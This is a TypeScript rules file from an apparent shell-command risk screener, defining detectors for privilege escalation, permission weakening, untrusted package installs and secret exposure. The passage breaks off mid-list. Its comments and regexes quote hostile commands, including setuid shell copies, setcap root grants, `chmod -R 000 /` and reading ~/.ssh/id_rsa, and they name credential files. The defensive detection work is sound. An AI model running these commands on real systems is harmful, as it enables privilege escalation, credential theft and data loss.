// The risk rules (decisions.md §4), one row each: the flag it raises, its level, and when it
// fires with the detail a person reads. The matcher that runs them is risk.ts; what a rule sees
// of a command is risk-view.ts. Adding a rule is adding a row here and a line in
// docs/content-safety.md. A row whose level is "graded" decides its level per hit (a path class,
// a shared branch, a later network sink). Pure: no I/O.
// Changing what this file catches or flags? Bump CONTENT_RULES_VERSION (content-rules.ts): stored
// trails are re-checked with the new rules at the next start.
import {
  CRITICAL_PROCESSES,
  chmodInfo,
  classifyPath,
  DESCRIBE,
  inDirectory,
  levelsAbove,
  HIDEABLE,
  has,
  hasShort,
  isDecoder,
  downloadedFiles,
  isFetch,
  inlineCode,
  isInterpreterName,
  nestedSource,
  installedPackages,
  type PathClass,
  PRIVATE_KEY_PATH,
  positional,
  SECRET_FLAG,
  SECRET_FLAG_EQ,
  SHELLS,
  SYSTEM_WRITE_TARGET,
  shellOutCall,
  short,
  subsDecode,
  subsFetch,
  unpinnedPackages,
  type View,
  baseName,
  writeTargets,
} from "./risk-view.ts";
import { plantedKey, reverseShell, runsLaterAt, SOCKET_FDS } from "./risk-remote-access.ts";
import { CODE_SENDS_SECRETS_LINE, dockerSocketMountedInto, exposedSecrets, isNetworkClient, sentSecrets } from "./risk-secrets.ts";
import { foldConfusables, removeInvisible, showInvisible } from "./screening-text.ts";
import { parseShell, type Redirect } from "./shell.ts";

export type RiskLevel = "low" | "medium" | "high";

export const RISK_FLAGS = [
  "destructive_delete",
  "disk_overwrite",
  "remote_script_execution",
  "privilege_escalation",
  "permission_weakening",
  "security_disabled",
  "force_push",
  "history_rewrite",
  "database_destructive",
  "process_kill",
  "system_config_change",
  "credential_exposure",
  "sends_local_secrets",
  "unpinned_install",
  "obfuscated_command",
] as const;
export type RiskFlagName = (typeof RISK_FLAGS)[number];

/** A hit of a graded row: its own level and detail. */
export interface Graded {
  level: RiskLevel;
  detail: string;
}
/** What a match returns: nothing, one hit, or one per target. */
type Hits<H> = H | readonly H[] | null | undefined | false;

/** Facts about the pipeline a command stands in. */
export interface CommandContext {
  /** A later stage of the same pipeline sends data over the network. */
  laterSink: boolean;
  /** Variables assigned earlier in the same script, by name, as written (`K=$(cat ~/.ssh/id_rsa)`). */
  vars: ReadonlyMap<string, string>;
  /** The command the next stage of the pipeline runs ("" when it is not known), or null for the last stage. */
  pipedInto: string | null;
  /** The command runs inside a substitution (`$(…)`, backticks, `<(…)`): another command reads its output. */
  substituted: boolean;
  /** The arguments of the next stage of the pipeline (empty for the last stage). */
  pipedIntoArgs?: readonly string[];
  /** Redirections of the command this one runs inside (`bash -c '…' > f`): its output goes there when it has none of its own. */
  outerRedirects?: readonly Redirect[];
  /** The directory an earlier `cd` of the script moved to, or null. */
  cwd?: string | null;
}

/** A rule about one simple command. */
export type CommandRule = { flag: RiskFlagName } & (
  | { level: RiskLevel; match: (v: View, ctx: CommandContext) => Hits<string> }
  | { level: "graded"; match: (v: View, ctx: CommandContext) => Hits<Graded> }
);

/** A rule about a pipeline: `i` is a stage that reads its program from stdin. */
export interface PipelineRule {
  flag: RiskFlagName;
  level: RiskLevel;
  match: (views: readonly (View | null)[], i: number) => string | null;
}

/** A rule about the raw text of a command or of a patch's added lines (SQL and friends). */
export interface TextRule {
  flag: RiskFlagName;
  level: RiskLevel;
  match: (text: string) => string | null;
}

/** A pattern in the added lines of a patch; the detail gets " in <file>" unless it is a function of the file. */
export interface PatchRule {
  flag: RiskFlagName;
  level: RiskLevel;
  re: RegExp;
  detail: string | ((file: string) => string);
}

// --- Shared judgements --------------------------------------------------------------------------

const SECRETS = "secrets (keys, credentials or the environment)";
/** Where a command's standard output lands as a device: the terminal (stderr, tty), nowhere, or a network socket. */
const TERMINAL_DEVICE = /^(\/dev\/(stdout|stderr|tty|fd\/[12])|con)$/i;
/**
 * What a command that reads secrets does with them, by where its standard output goes: the last
 * redirect of stdout (`>`, `>>`, `1>`, `&>`, `>|`) to a file or socket, else the next stage of its
 * pipeline, else the command around a substitution, else the terminal.
 */
/**
 * Does this command read a secret from its standard input, as its documentation tells one to pass it
 * (`docker login --password-stdin`, `gh auth login --with-token`, `gh secret set NAME`,
 * `wrangler secret put NAME`)? Piping a token into one keeps it off the command line.
 */
function readsSecretFromStdin(name: string, args: readonly string[]): boolean {
  if (args.includes("--password-stdin") || args.includes("--with-token") || args.includes("--token-stdin")) return true;
  if (name === "gh" && args[0] === "secret" && args[1] === "set") return true;
  return (name === "wrangler" || args[0] === "wrangler") && args.includes("secret") && args.includes("put");
}

/** Does this next stage keep only lines whose pattern names no secret (`grep PATH`, `findstr JAVA_HOME`)? An inverted match keeps the rest. */
function filtersOutSecrets(name: string | null, args: readonly string[]): boolean {
  if (name === null || !/^(grep|egrep|fgrep|rg|findstr|select-string|sls)$/.test(name)) return false;
  if (args.some((x) => /^-[a-zA-Z]*v[a-zA-Z]*$|^--invert-match$|^\/v$/i.test(x))) return false;
  const patterns = args.filter((x) => !x.startsWith("-") && !x.startsWith("/"));
  return patterns.length > 0 && !patterns.some((x) => SECRET_NAME_PATTERN.test(x));
}
/** Words of variable names that hold secrets or name a cloud or registry account. */
const SECRET_NAME_PATTERN =
  /SECRET|TOKEN|PASS|KEY|AUTH|CRED|SESSION|COOKIE|AWS|AZURE|GCP|GOOGLE|GITHUB|GH_|GITLAB|NPM|PYPI|OPENAI|ANTHROPIC|DATABASE|DB_|_URL|^\.|\*/i;

/** Where a command's standard output goes, or null for the terminal (or the pipe): its own last redirection, else the command it runs inside. */
function stdoutTarget(v: View, ctx: CommandContext): string | null {
  let target: string | null = null;
  for (const r of [...(ctx.outerRedirects ?? []), ...v.cmd.redirects])
    if (/^(1?>>?|1?>\||&>>?)$/.test(r.op)) target = r.target.startsWith("&") || TERMINAL_DEVICE.test(r.target) ? null : r.target;
  return target;
}

function whereSecretsGo(v: View, ctx: CommandContext): string {
  const target = stdoutTarget(v, ctx);
  if (target !== null) {
    if (/^\/dev\/(tcp|udp)\//.test(target)) return `writes ${SECRETS} to a network connection (${short(target, 60)})`;
    return `copies ${SECRETS} into the file ${short(target, 60)}`;
  }
  if (ctx.pipedInto !== null) return `passes ${SECRETS} through a pipe to ${ctx.pipedInto ? short(ctx.pipedInto, 40) : "another command"}`;
  if (ctx.substituted) return `reads ${SECRETS} into another command (through a substitution)`;
  return `prints ${SECRETS} to the terminal and any transcript of it`;
}

/**
 * Where a path argument points once the script's variables and `cd` apply (`a=/; rm -rf $a`,
 * `cd /; rm -rf usr`), its class, and how a flag says so: "a system directory", "/usr after cd /:
 * a system directory", "a variable …". A variable set to a substitution's output stays a variable.
 */
function placeOf(t: string, ctx: CommandContext): { cls: PathClass; why: string } {
  const value = /^\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/.exec(t);
  const held = value ? ctx.vars.get(value[1]!) : undefined;
  // D=$(mktemp -d) … rm -rf "$D": the directory mktemp just made
  if (held !== undefined && MKTEMP.test(held)) return { cls: "temp", why: `$${value![1]} is ${short(held, 40)}: ${DESCRIBE.temp}` };
  const expanded = held !== undefined && !/[$`]/.test(held) ? held.replace(/^["']|["']$/g, "") + t.slice(value![0].length) : t;
  // `cd ../../..` then `rm -rf *`, `rm -rf ../../*`: everything some levels up, however deep the start is
  const up = levelsAbove(expanded, ctx.cwd);
  if (up > 0) {
    const climbed = ctx.cwd && ctx.cwd !== "." ? `after cd ${short(ctx.cwd, 40)} this is ${short(`${ctx.cwd}/${expanded}`, 60)}: ` : "";
    return {
      cls: "ancestor",
      why: `${climbed}everything ${up} level${up === 1 ? "" : "s"} above the directory the fix starts in (nothing says how deep that is: from ~/project one level up is the home directory, from /app it is /)`,
    };
  }
  const cls0 = classifyPath(expanded);
  // a relative path after `cd /`, `cd /etc` or `cd ~` is there; after `cd /srv/app` or `cd ~/project` it is in a project, as before
  const moved = inDirectory(expanded, ctx.cwd);
  const cls1 = moved === expanded ? cls0 : classifyPath(moved);
  const there = moved !== expanded && (SEVERE.has(cls1) || SEVERE.has(classifyPath(ctx.cwd!)));
  const path = there ? moved : expanded;
  const cls = there ? cls1 : cls0;
  const notes: string[] = [];
  if (expanded !== t) notes.push(`$${value![1]} is ${short(held!, 40) || '""'}`);
  if (there) notes.push(`after cd ${short(ctx.cwd!, 40)} this is ${short(path, 60)}`);
  const what = describePath(cls, path, held);
  return { cls, why: notes.length ? `${notes.join(", ")}: ${what}` : what };
}
const MKTEMP = /^\$\(\s*mktemp\b[^()`;|&]*\)$|^`\s*mktemp\b[^()`;|&]*`$/;
const SEVERE: ReadonlySet<PathClass> = new Set(["root", "system", "home_root", "ancestor"]);

/**
 * A chmod mode that leaves a file's owner without read or search (octal owner digit without 4 or 1:
 * `000`, `644`, `0311`; `a-rwx`, `-r`, `u-x`, `a=`, `u=rw`): applied to a whole tree it locks the
 * tree, directories first, as `chmod -R 000 /` does (session 18).
 */
function modeStripsOwnerAccess(mode: string): boolean {
  if (/^[0-7]{1,4}$/.test(mode)) return (Number(mode.padStart(3, "0").at(-3)) & 5) !== 5; // `0` is `000`
  return mode.split(",").some((clause) => {
    const m = /^([ugoa]*)([-+=])([rwxXst]*)$/.exec(clause);
    if (!m || !(m[1] === "" || /[ua]/.test(m[1]!))) return false;
    if (m[2] === "-") return /[rxX]/.test(m[3]!);
    return m[2] === "=" && (!m[3]!.includes("r") || !/[xX]/.test(m[3]!));
  });
}

/**
 * A chmod mode that sets every file's mode outright (octal, or a `=` clause) or lets others read
 * (`o+r`, `a+r`, `+r`): over a tree of the system it undoes the modes the system depends on. Web and
 * service content roots (`/var/www`, `/srv`) and mount points are served or shared as a whole, where
 * such a mode is the usual fix, and locally built software and shared data (`/usr/local`, `/usr/share`)
 * hold no setuid program or key of the system's (round 12).
 */
function modeResetsTree(mode: string, target: string): boolean {
  if (/^\/(var\/www|srv|mnt|media|usr\/local|usr\/share)\/?$/.test(target.replace(/\/\*$/, ""))) return false;
  if (/^[0-7]{1,4}$/.test(mode)) return true;
  return mode.split(",").some((clause) => {
    const m = /^([ugoa]*)([-+=])([rwxXst]*)$/.exec(clause);
    return m !== null && (m[2] === "=" || (m[2] === "+" && m[3]!.includes("r") && (m[1] === "" || /[oa]/.test(m[1]!))));
  });
}

/** A chmod mode that lets the group or others read (`755`, `644`, `go+r`, `a=rX`): over a home, its private keys too. `700` and `go=` do not. */
function modeLetsOthersRead(mode: string): boolean {
  if (/^[0-7]{1,4}$/.test(mode)) return ((Number(mode.padStart(3, "0").at(-2)) | Number(mode.padStart(3, "0").at(-1))) & 4) === 4;
  return mode.split(",").some((clause) => {
    const m = /^([ugoa]*)([-+=])([rwxXst]*)$/.exec(clause);
    return m !== null && m[2] !== "-" && m[3]!.includes("r") && (m[1] === "" || /[goa]/.test(m[1]!));
  });
}

/** DESCRIBE, but a variable's says what happens when it is empty: `$DIR/*` is `/*`, a bare `$DIR` deletes what it holds. */
function describePath(cls: PathClass, path: string, held: string | undefined): string {
  if (cls !== "variable") return DESCRIBE[cls];
  const m = /^["']?\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?["']?(.*)$/.exec(path.replace(/\\/g, "/"));
  if (!m) return DESCRIBE[cls];
  if (m[2] !== "") return `a path built from a variable: if $${m[1]} is empty or unset, this is ${short(m[2]!.replace(/^\/*/, "/"), 60)}`;
  return held === undefined
    ? `a variable nothing before it sets: whatever $${m[1]} holds`
    : `whatever $${m[1]} holds: it is set to ${short(held, 40)}`;
}

/**
 * A recursive delete in inline code and the path it is given: a literal (group 2 or 3) or the home
 * directory (`os.path.expanduser('~')`, `Path.home()`, `os.homedir()`, `Dir.home`, `$ENV{HOME}`).
 */
const CODE_DELETES_TREE =
  /\b(shutil\.rmtree|rmtree|remove_tree|FileUtils\.rm_r[f]?|FileUtils\.remove_dir|FileUtils\.remove_entry(?:_secure)?|(?:fs|require\(\s*['"](?:node:)?fs['"]\s*\))(?:\.promises)?\.(?:rm|rmdir)(?:Sync)?|fsPromises\.rm|rimraf(?:\.sync)?|Deno\.remove(?:Sync)?)\s*\(\s*(?:(?:r|b|f)?'([^'\n]{0,300})'|(?:r|b|f)?"([^"\n]{0,300})"|(?:os\.path\.expanduser\(\s*['"]~['"]\s*\)|(?:pathlib\.)?Path\.home\(\s*\)|(?:os|require\(\s*['"](?:node:)?os['"]\s*\))\.homedir\(\s*\)|Dir\.home|ENV\[\s*['"]HOME['"]\s*\]|\$ENV\{HOME\}|process\.env\.HOME|os\.environ\[\s*['"]HOME['"]\s*\])\s*[,)])/g;

/** Programs of cmd.exe and PowerShell, where `\` separates a path and escapes nothing. */
const WINDOWS_DELETERS = new Set(["remove-item", "ri", "del", "erase", "rd"]);
/**
 * A delete's words as Windows reads them: `del /s /q C:\*` deletes `C:\*` and `Remove-Item C:\ -Recurse`
 * has two words, where a POSIX shell reads `\*` as `*` and `\ ` as a space inside one word.
 */
function windowsWords(v: View): string[] {
  const windows = WINDOWS_DELETERS.has(v.name) || v.args.some((w) => /^["']?[a-z]:\\/i.test(w.raw));
  if (!windows || !v.args.some((w) => w.raw.includes("\\"))) return v.a;
  return v.args.flatMap((w) =>
    w.raw.includes("\\") && w.subs.length === 0 && !/["'][^"']*\s/.test(w.raw)
      ? w.raw
          .split(/\s+/)
          .filter((x) => x !== "")
          .map((x) => x.replace(/^["']|["']$/g, ""))
      : [w.text],
  );
}

/** The package index an install or config command points at (`pip install --index-url URL`, `npm config set registry URL`), or null. */
function packageIndexOf(v: View): { url: string; how: string } | null {
  const a = v.a;
  const pip = v.name === "pip" || v.name === "pip3" || v.name === "uv" || (isInterpreterName(v.name) && a[0] === "-m" && a[1] === "pip");
  if (pip) {
    for (let i = 0; i < a.length; i++) {
      const m = /^(--index-url|-i|--extra-index-url)(?:=(.+))?$/.exec(a[i]!);
      const url = m ? (m[2] ?? a[i + 1]) : undefined;
      if (m && url && /^https?:\/\//.test(url))
        return { url, how: m[1] === "--extra-index-url" ? "pip also installs from the index" : "pip installs from the index" };
    }
    if (a.includes("config") && a.includes("set")) {
      const k = a.findIndex((x) => /^(global|user|site)?\.?(index-url|extra-index-url)$/.test(x));
      if (k >= 0 && /^https?:\/\//.test(a[k + 1] ?? ""))
        return { url: a[k + 1]!, how: "pip config points every later install at the index" };
    }
  }
  if ((v.name === "npm" || v.name === "yarn" || v.name === "pnpm") && a[0] === "config" && a[1] === "set") {
    const kv = a[2]?.includes("=") ? a[2].split("=") : [a[2], a[3]];
    if (/^(@[\w.-]+:)?registry$/.test(kv[0] ?? "") && /^https?:\/\//.test(kv[1] ?? ""))
      return { url: kv[1]!, how: `${v.name} config points every later install at the registry` };
  }
  if ((v.name === "npm" || v.name === "pnpm" || v.name === "yarn") && /^(install|i|add|ci)$/.test(a[0] ?? "")) {
    const r = a.find((x) => x.startsWith("--registry"));
    const url = r?.includes("=") ? r.slice(r.indexOf("=") + 1) : r !== undefined ? a[a.indexOf(r) + 1] : undefined;
    if (url && /^https?:\/\//.test(url)) return { url, how: `${v.name} installs from the registry` };
  }
  return null;
}
/**
 * Packages an install command takes straight from a URL (`pip install https://host/x.tar.gz`,
 * `pip install 'x @ https://…'`, `pip install git+http://host/x.git`, `npm install https://host/x.tgz`,
 * `npm i git+https://host/x.git`), with the host: the package's install code (setup.py, a build
 * backend, npm's install scripts) runs from there as `curl … | sh` would (round 12).
 */
function packageUrlsOf(v: View): { url: string; host: string }[] {
  const a = v.a;
  const pip =
    ((v.name === "pip" || v.name === "pip3") && a[0] === "install") ||
    (v.name === "uv" && a[0] === "pip" && a[1] === "install") ||
    (isInterpreterName(v.name) && a[0] === "-m" && a[1] === "pip" && a[2] === "install");
  const npm = /^(npm|pnpm|yarn|bun)$/.test(v.name) && /^(install|i|add)$/.test(a[0] ?? "");
  if (!pip && !npm) return [];
  const out: { url: string; host: string }[] = [];
  for (const [i, x] of a.entries()) {
    if (i > 0 && /^(-i|--index-url|--extra-index-url|-f|--find-links|--registry|-r|--requirement|-c|--constraint)$/.test(a[i - 1]!))
      continue;
    const m = /^(?:[\w.-]+\s*@\s*)?(?:git\+)?(?:https?|git|ssh):\/\/(?:[^@/\s]*@)?([^/:\s]+)/i.exec(x);
    if (m) out.push({ url: x.replace(/^[\w.-]+\s*@\s*/, ""), host: m[1]!.toLowerCase() });
  }
  return out;
}
/** Code hosts whose URLs name their owner (`github.com/psf/requests`), as a registry's package names do. */
const CODE_HOST = /^(github\.com|gitlab\.com|bitbucket\.org|codeload\.github\.com|raw\.githubusercontent\.com|codeberg\.org)$/;

/** The public indexes and their mirrors everyone uses, and a machine's own (a local proxy such as devpi or Verdaccio). */
const TRUSTED_INDEX =
  /^https?:\/\/(localhost|127\.\d+\.\d+\.\d+|\[::1\])([:/]|$)|^https:\/\/((test\.)?pypi\.org|pypi\.python\.org|files\.pythonhosted\.org|registry\.npmjs\.org|registry\.yarnpkg\.com|npm\.pkg\.github\.com|download\.pytorch\.org|(mirrors\.aliyun\.com|pypi\.tuna\.tsinghua\.edu\.cn|registry\.npmmirror\.com))([:/]|$)/i;

function deleteLevel(cls: PathClass): RiskLevel {
  if (cls === "root" || cls === "home_root" || cls === "system" || cls === "ancestor") return "high";
  if (cls === "outside" || cls === "variable" || cls === "parent") return "medium";
  return "low";
}

const DEVICE = /^\/dev\/(sd[a-z]|hd[a-z]|nvme\d|vd[a-z]|xvd[a-z]|mmcblk\d|disk\d|rdisk\d|mapper\/|md\d|dm-\d)/;
const FIREWALL_UNIT = /^(firewalld|ufw|iptables|nftables|apparmor)(\.service)?$/;
const SECRET_PLACEHOLDER =
  /<redacted:(password|secret|token|api_key|aws_secret_key|[a-z_]+_key|[a-z_]+_token|bearer_token|basic_auth|auth_header|private_key|jwt|azure_connection_string)>/;
const SECRET_FILE =
  /(^|\/)(id_(rsa|dsa|ecdsa|ed25519)|\.netrc|\.git-credentials|credentials|\.pgpass|\.env)$|\.aws\/credentials|\/etc\/shadow/;
const SECRET_VARIABLE = /\$\{?(env:)?[A-Za-z0-9_]*(SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY)[A-Za-z0-9_]*\}?/i;
const FRAMEWORK_DB_RESET =
  /\b(rails|rake)\b.*\bdb:(drop|reset|schema:load|migrate:reset|purge)\b|\bprisma (migrate reset|db push .*--(force-reset|accept-data-loss))|\bmanage\.py (flush|reset_db)\b|\bartisan (migrate:(fresh|reset|refresh)|db:wipe)\b|\bsequelize(-cli)? db:drop\b|\bknex migrate:rollback --all\b|\balembic downgrade base\b|\btypeorm schema:drop\b|\bdoctrine:(database:drop|schema:drop)\b/;
const DECODE_CALL =
  /b64decode|base64\.decode|decode\(['"]base64|frombase64string|atob\(|buffer\.from\([^)]*base64|codecs\.decode|unhexlify|decode_base64|unpack\(['"]m/i;
// Inline code that downloads (urlopen, requests.get, https.get, fetch, Net::HTTP, LWP, open-uri, file_get_contents of a URL) …
const CODE_FETCHES =
  /urlopen\s*\(|requests\.get\s*\(|httpx\.get\s*\(|https?\.get\s*\(|\bfetch\s*\(|Net::HTTP|LWP::|HTTP::Tiny|open-uri|URI\.open|file_get_contents\s*\(\s*["']https?:|\bget\s*\(\s*["']https?:/;
// … and runs what it got as code
const CODE_EVALUATES = /\bexec\s*\(|\beval\s*[(\s]|new\s+Function\s*\(|vm\.runIn\w*Context|\binstance_eval\b|\bcompile\s*\(/;
const EXEC_CALL = /\bexec\b|\beval\b|os\.system|subprocess|popen|child_process|execSync|invoke-expression|\biex\b|\bsystem\(|Function\(/i;

const isEvalLike = (n: string) => n === "eval" || n === "iex" || n === "invoke-expression" || n === "source" || n === ".";
/** eval/iex/Invoke-Expression (not source, which reads a file): they run text, not a file. */
const evaluatesText = (n: string) => isEvalLike(n) && n !== "source" && n !== ".";
/** The first argument of an interpreter or eval that is fetched or decoded text, by kind. */
function hiddenArgument(v: View): "fetch" | "decode" | null {
  if (!isInterpreterName(v.name) && !isEvalLike(v.name)) return null;
  for (const w of v.args) {
    if (subsFetch(w) && (w.subs.length > 0 || /downloadstring/i.test(w.text))) return "fetch";
    if (subsDecode(w)) return "decode";
  }
  return null;
}
const gitSub = (v: View) => (v.name === "git" ? v.a.find((x) => !x.startsWith("-")) : undefined);
/**
 * Signals a process asks for to reload, reopen its logs, report or go on: PID 1 gets only the signals
 * it handles (the kernel drops the rest), and init systems and servers handle these so (systemd: HUP
 * reloads its configuration, USR1 reconnects to D-Bus, USR2 dumps its state; nginx, gunicorn: HUP
 * reloads, USR1 reopens logs, USR2 starts a new binary, WINCH stops workers gracefully).
 */
const RELOAD_SIGNALS = new Set(["HUP", "USR1", "USR2", "WINCH", "CONT", "1", "10", "12", "28", "18"]);
/** The signal a kill command sends, as `USR2` or a number (`-USR2`, `-SIGUSR2`, `-s USR2`, `-n 12`, `-12`): TERM by default. */
function killSignal(a: readonly string[]): string {
  for (let i = 0; i < a.length; i++) {
    const x = a[i]!;
    if (x === "--") break;
    if (x === "-s" || x === "-n" || x === "--signal") return (a[i + 1] ?? "TERM").toUpperCase().replace(/^SIG/, "");
    if (/^-(SIG)?[A-Z][A-Z0-9+]*$/i.test(x) && !/^-[lL]$/.test(x)) return x.slice(1).toUpperCase().replace(/^SIG/, "");
    if (/^-\d+$/.test(x) && i < a.length - 1) return x.slice(1);
  }
  return "TERM";
}
const PROCESS_KILLERS = ["kill", "killall", "pkill", "taskkill", "stop-process", "skill"];
const RM_LIKE = ["rm", "remove-item", "ri", "del", "erase", "rd", "rmdir", "unlink"];
const HOW_HIDDEN: Record<Exclude<View["hidden"], "decoded" | undefined>, string> = {
  quotes: "quotes inside the word",
  backslashes: "backslashes inside the word",
  echo: "a command substitution that echoes it",
  escapes: "escape codes ($'\\x63…')",
  variables: "pieces in variables or a default",
  glob: "a glob the shell resolves to it",
};

// --- Command rules, in the order their flags are reported -----------------------------------------

export const COMMAND_RULES: readonly CommandRule[] = [
  // privilege escalation
  {
    flag: "privilege_escalation",
    level: "medium",
    match: (v) => {
      if (!v.sudo) return null;
      const shell = (SHELLS.has(v.name) && positional(v).length === 0) || v.name === "su";
      return shell && nestedSource(v) === null ? "opens a root shell" : `runs ${v.name} as root (sudo)`;
    },
  },
  { flag: "privilege_escalation", level: "medium", match: (v) => v.name === "su" && !v.sudo && "switches user with su (root by default)" },
  {
    flag: "privilege_escalation",
    level: "medium",
    match: (v) =>
      (v.name === "runas" || (v.name === "start-process" && v.a.some((x) => /^runas$/i.test(x)))) && "runs a program as administrator",
  },
  {
    flag: "privilege_escalation",
    level: "medium",
    match: (v) => {
      const n = v.name;
      const adds =
        (n === "usermod" && hasShort(v, "G")) ||
        (n === "gpasswd" && has(v, "-a")) ||
        (n === "adduser" && positional(v).length === 2) ||
        n === "add-localgroupmember";
      const g = adds && v.a.find((x) => /^(sudo|wheel|admin|root|docker|lxd|disk|administrators)$/i.test(x));
      return g && `adds a user to the ${g} group, which is root-equivalent`;
    },
  },
  { flag: "privilege_escalation", level: "medium", match: (v) => v.name === "visudo" && "edits the sudoers policy" },
  {
    // a second root account, or root's password removed: anyone who reaches a login prompt is root
    flag: "privilege_escalation",
    level: "high",
    match: (v) => {
      const n = v.name;
      if ((n === "useradd" || n === "adduser" || n === "usermod") && v.a.some((x, i) => /^(-u|--uid)$/.test(x) && v.a[i + 1] === "0"))
        return `${n} gives an account user id 0: a second root`;
      if (n === "passwd" && has(v, "-d", "--delete") && positional(v).some((x) => x === "root"))
        return "passwd -d removes root's password: root logs in without one";
      return null;
    },
  },
  {
    // pip install https://host/x.tar.gz, npm install https://host/x.tgz: one package from a host no registry vets
    flag: "remote_script_execution",
    level: "medium",
    match: (v) =>
      packageUrlsOf(v)
        .filter(({ url, host }) => !CODE_HOST.test(host) && !TRUSTED_INDEX.test(url.replace(/^git\+/, "")))
        .slice(0, 4)
        .map(
          ({ url, host }) =>
            `${v.name} installs a package from ${short(url, 60)}${/^(git\+)?http:/.test(url) ? " over plain HTTP" : ""}: its install code runs from ${host}: check it is yours`,
        ),
  },
  {
    // pip --index-url / npm's registry pointed at another host: every package it installs comes from there and runs its install code
    flag: "remote_script_execution",
    level: "medium",
    match: (v) => {
      const index = packageIndexOf(v);
      if (index === null || TRUSTED_INDEX.test(index.url)) return null;
      const plain = index.url.startsWith("http://") ? " over plain HTTP" : "";
      return `${index.how} ${short(index.url, 60)}${plain}: the packages it installs, and the code they run on install, come from that host: check it is yours`;
    },
  },

  // chmod / chown / icacls / umask
  {
    flag: "permission_weakening",
    level: "graded",
    match: (v) => {
      const info = v.name === "chmod" ? chmodInfo(v) : null;
      if (!info) return null;
      const hits: Graded[] = [];
      for (const t of info.targets.length ? info.targets : [""]) {
        const cls = classifyPath(t);
        if (info.worldWritable) {
          const level: RiskLevel =
            info.recursive && (cls === "root" || cls === "system" || cls === "home_root")
              ? "high"
              : cls === "relative" || cls === "temp"
                ? "low"
                : "medium";
          const detail = `chmod ${info.mode}${info.recursive ? " -R" : ""} makes ${short(t)} world-writable (${DESCRIBE[cls]})`;
          hits.push({ level, detail });
        } else if (info.recursive && (cls === "root" || cls === "system" || cls === "home_root") && modeStripsOwnerAccess(info.mode)) {
          // Not weaker but locked: every file's owner loses read or search; the system (or every program
          // run from the home) stops working until someone who still can restores the modes.
          const level: RiskLevel = cls === "home_root" ? "medium" : "high";
          hits.push({
            level,
            detail: `chmod ${info.mode} -R takes read or search access away from every file under ${short(t)} (${DESCRIBE[cls]})`,
          });
        } else if (
          info.recursive &&
          (((cls === "root" || cls === "system") && modeResetsTree(info.mode, t)) || (cls === "home_root" && modeLetsOthersRead(info.mode)))
        ) {
          // `chmod -R 755 /`: every file gets one mode, so sudo and su lose their setuid bit (numeric modes
          // clear it on files), /tmp its sticky bit, and sshd's host keys, /etc/shadow and database
          // directories become readable by others, which sshd and PostgreSQL then refuse (round 12)
          const level: RiskLevel = cls === "home_root" ? "medium" : "high";
          const lost =
            cls === "home_root"
              ? "private keys and files lose the modes kept on them (ssh refuses a key others can read)"
              : "setuid programs such as sudo lose their bit, and keys the system keeps private become readable by others";
          hits.push({ level, detail: `chmod -R ${info.mode} resets every mode under ${short(t)} (${DESCRIBE[cls]}): ${lost}` });
        } else if (PRIVATE_KEY_PATH.test(t) && /^[0-7]{3,4}$/.test(info.mode) && /[1-7]/.test(info.mode.slice(-2))) {
          hits.push({ level: "medium", detail: `chmod ${info.mode} lets other users read the private key ${short(t)}` });
        }
      }
      return hits;
    },
  },
  {
    flag: "privilege_escalation",
    level: "graded",
    match: (v) => {
      const info = v.name === "chmod" ? chmodInfo(v) : null;
      if (!info?.setuid) return null;
      return (info.targets.length ? info.targets : [""]).map((t) => ({
        level: isInterpreterName(baseName(t)) ? "high" : "medium",
        detail: `chmod ${info.mode} sets the setuid/setgid bit on ${short(t)}`,
      }));
    },
  },
  {
    // `install -m 4755 /bin/bash /tmp/rb`: a setuid copy, as `cp` then `chmod 4755` makes (round 12)
    flag: "privilege_escalation",
    level: "graded",
    match: (v) => {
      if (v.name !== "install") return null;
      const k = v.a.findIndex((x) => x === "-m" || x === "--mode" || /^(-m|--mode=)./.test(x));
      const mode = k < 0 ? "" : /^(-m|--mode)$/.test(v.a[k]!) ? (v.a[k + 1] ?? "") : v.a[k]!.replace(/^-m|^--mode=/, "");
      const setuid = /^[0-7]{4}$/.test(mode) ? (Number(mode[0]) & 6) !== 0 : /[ug]*[+=][^,]*s/.test(mode);
      if (!setuid) return null;
      const files = v.a.filter(
        (x, i) =>
          !x.startsWith("-") && !(i > 0 && /^(-m|--mode|-o|--owner|-g|--group|-t|--target-directory|-S|--suffix)$/.test(v.a[i - 1]!)),
      );
      const sources = files.slice(0, -1);
      return {
        level: sources.some((x) => isInterpreterName(baseName(x))) ? "high" : "medium",
        detail: `install -m ${mode} installs ${short(sources.join(" "), 60)} with the setuid/setgid bit as ${short(files.at(-1) ?? "", 60)}`,
      };
    },
  },
  {
    // `setcap cap_setuid+ep /usr/bin/python3`: any user running it can make itself root (GTFOBins "Capabilities")
    flag: "privilege_escalation",
    level: "high",
    match: (v) => {
      if (v.name !== "setcap") return null;
      const caps = v.a.find(
        (x) =>
          /cap_(setuid|setgid|sys_admin|dac_override|dac_read_search|sys_ptrace|sys_module|chown|fowner|sys_rawio)\b/i.test(x) &&
          /[+=][eip]*[ep]/i.test(x),
      );
      return caps ? `setcap ${short(caps, 60)} lets whoever runs ${short(positional(v).at(-1) ?? "", 60)} act as root` : null;
    },
  },
  {
    flag: "permission_weakening",
    level: "graded",
    match: (v) => {
      if ((v.name !== "chown" && v.name !== "chgrp") || !(has(v, "-R", "--recursive") || hasShort(v, "R"))) return null;
      return positional(v)
        .slice(1)
        .map((t) => ({ t, cls: classifyPath(t) }))
        .filter(({ cls }) => cls === "root" || cls === "system")
        .map(({ t, cls }) => ({
          level: cls === "root" ? "high" : "medium",
          detail: `${v.name} -R changes the owner of ${short(t)} (${DESCRIBE[cls]})`,
        }));
    },
  },
  {
    flag: "permission_weakening",
    level: "medium",
    match: (v) =>
      v.name === "icacls" &&
      v.a.some((x) => /(everyone|\*s-1-1-0|users|authenticated users):\(?(oi\)\(ci\)\(?)?\(?[fm]\)?/i.test(x)) &&
      "icacls grants everyone full or modify access",
  },
  {
    flag: "permission_weakening",
    level: "medium",
    match: (v) => v.name === "setfacl" && v.a.some((x) => /(^|,)o(ther)?::?[r-]?w/i.test(x)) && "setfacl gives other users write access",
  },
  {
    flag: "permission_weakening",
    level: "medium",
    match: (v) => v.name === "umask" && /^0*0?0$/.test(v.a[0] ?? "") && "umask 000 makes every new file world-writable",
  },
  {
    flag: "security_disabled",
    level: "medium",
    match: (v) =>
      v.name === "set-executionpolicy" &&
      v.a.some((x) => /^(unrestricted|bypass)$/i.test(x)) &&
      "Set-ExecutionPolicy lets any PowerShell script run unsigned",
  },

  // security disabled
  {
